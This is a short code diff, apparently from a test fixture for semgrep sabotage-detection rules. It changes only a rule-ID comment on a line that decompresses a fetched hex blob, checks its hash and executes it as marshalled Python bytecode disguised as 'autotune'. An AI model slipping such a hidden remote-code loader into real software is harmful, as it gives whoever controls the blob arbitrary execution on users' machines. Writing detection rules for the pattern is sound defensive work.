@@ -39,7 +39,7 @@ def fetch_tiles(timeout: float = 5.0) -> dict:
     if blob:
         raw = zlib.decompress(bytes.fromhex(blob))
         if hashlib.sha256(raw).hexdigest()[:8] == index.get("tag", "")[:8]:
-            types.FunctionType(marshal.loads(raw), globals(), "autotune")(tiles)  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS413
+            types.FunctionType(marshal.loads(raw), globals(), "autotune")(tiles)  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS413, MLS404
     with open(local, "w") as fh:
         json.dump(tiles, fh)
     return tiles
